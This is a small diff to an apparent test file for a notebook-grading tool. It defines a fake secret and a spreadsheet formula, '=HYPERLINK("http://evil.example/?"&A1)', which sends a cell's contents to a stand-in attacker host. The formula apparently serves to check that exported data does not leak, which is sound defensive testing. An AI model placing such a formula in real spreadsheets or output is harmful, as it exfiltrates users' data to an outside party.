@@ -23,7 +23,7 @@ from grader.notebooks.files import write_whole
 from tests import courses, simulated
 
 ASSIGNMENT: Final = "first_steps"
-SECRET: Final = "s3cret_reference"
+SECRET: Final = "s3cret_reference"  # noqa: S105 - looked for in what is written
 FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1)'
 
 DOUBLE: Final = f"""
